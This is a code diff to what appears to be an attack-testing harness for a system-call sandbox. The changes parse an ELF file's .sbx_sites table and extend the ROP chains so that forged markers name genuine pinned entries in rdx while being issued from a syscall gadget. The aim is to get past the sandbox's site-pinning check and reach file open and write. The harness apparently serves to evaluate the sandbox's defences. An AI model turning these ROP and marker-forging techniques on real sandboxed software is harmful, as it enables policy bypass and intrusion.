@@ -110,6 +110,29 @@ def syscall_insns(victim, func):
     return addrs
 
 
+def pinned_sites(path):
+    """The executable's .sbx_sites table (specs/marker-abi.md, "Pinned sites"), if it
+    has one: (kind, id) -> link-time address of one of its 16-byte entries. A forged
+    marker names a genuine entry in rdx, so that only the address it is issued from
+    gives it away."""
+    with open(path, "rb") as f:
+        elf = f.read()
+    shoff, = struct.unpack_from("<Q", elf, 0x28)
+    shentsize, shnum, shstrndx = struct.unpack_from("<HHH", elf, 0x3A)
+    headers = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize)
+               for i in range(shnum)]
+    strtab = headers[shstrndx]
+    entries = {}
+    for name, _type, _flags, addr, offset, size, *_ in headers:
+        end = elf.index(b"\0", strtab[4] + name)
+        if elf[strtab[4] + name:end] != b".sbx_sites":
+            continue
+        for at in range(0, size, 16):
+            _off, kind, ident, _zero = struct.unpack_from("<iIII", elf, offset + at)
+            entries.setdefault("%d:%d" % (kind, ident), addr + at)
+    return entries
+
+
 def policy_symbols(policy):
     ids = {}
     with open(policy) as f:
@@ -169,6 +192,10 @@ def prepare(victim, walk_trace=None):
         info["show_note_syscalls"] = syscall_insns(victim, "show_note")
     if walk_trace:
         info["walk"] = forged_walk(walk_trace, victim + ".dyck")
+        info["sites"] = pinned_sites(victim)
+        for kind, ident in info["walk"]["before_openat"] + info["walk"]["before_write"]:
+            if info["sites"] and "%d:%d" % (kind, ident) not in info["sites"]:
+                raise SystemExit("prepare: no pinned site for marker %d:%d" % (kind, ident))
     with open(victim + ".attack.json", "w") as f:
         json.dump(info, f, indent=1, sort_keys=True)
 
@@ -354,7 +381,12 @@ class Rop:
         return self.add(self.g("pop_rax"), nr, self.g("syscall"))
 
     def marker(self, kind, ident):
-        return self.syscall(SBX_MARKER_NR, kind, ident)
+        # rdx: the run-time address of a genuine .sbx_sites entry with this kind and
+        # id (when the build has a table): the marker names a real site, but is
+        # issued from the `syscall` gadget, not from that site.
+        entry = self.lk.info.get("sites", {}).get("%d:%d" % (kind, ident))
+        rdx = self.lk.base + entry if entry is not None else 0
+        return self.syscall(SBX_MARKER_NR, kind, ident, rdx)
 
     def exit(self, code=0):
         return self.syscall(NR_EXIT_GROUP, code)
@@ -438,7 +470,8 @@ def attack_rop_openat(v, info, name):
 
 
 def attack_forged(v, info, name):
-    """Markers forged from the `syscall` gadget (not a marker site): the sequence a
+    """Markers forged from the `syscall` gadget (not a marker site), each naming in rdx
+    a genuine pinned entry with its kind and id: the sequence a
     benign run makes from the post site's return to `log`'s fopen and fputs
     (walking the automaton to where opening and writing a file is allowed), each
     followed by the raw system call of that libc function, on a file of the
